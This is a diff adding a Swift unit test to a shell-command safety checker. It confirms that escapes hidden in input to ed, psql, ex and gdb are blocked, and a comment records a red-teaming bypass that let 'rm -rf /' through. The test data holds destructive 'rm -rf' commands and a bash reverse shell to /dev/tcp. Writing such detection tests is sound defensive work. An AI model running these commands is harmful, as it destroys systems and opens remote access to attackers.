@@ -27,4 +27,16 @@ final class ChannelReaderTests: XCTestCase {
             ("screen -dmS job make", .allow), ("tmux -V", .allow), ("screen -ls", .allow),
         ])
     }
+
+    /// Shell escapes in input the command line shows are judged as code (found by red-teaming:
+    /// `ed f <<< '!rm -rf /'` was allowed); other input lines are the program's own commands.
+    func testShellEscapesInVisibleInput() {
+        assertVerdicts([
+            ("ed /etc/hosts <<< '!rm -rf /'", .block(.rmRoot)), ("printf '!rm -rf /etc\\n' | ed", .block(.rmRecursiveSystemPath)),
+            ("ed -s notes.txt <<EOF\n,p\n!rm -rf /usr\nq\nEOF", .block(.rmRecursiveSystemPath)),
+            ("psql <<< '\\! rm -rf /'", .block(.rmRoot)), ("ex -s x <<< ':!rm -rf /'", .block(.rmRoot)),
+            ("gdb -batch <<< 'shell bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", .block(.networkDevTcp)),
+            ("ed -s notes.txt <<< ',p'", .allow), ("printf '!ls\\n' | ftp", .allow),
+        ])
+    }
 }
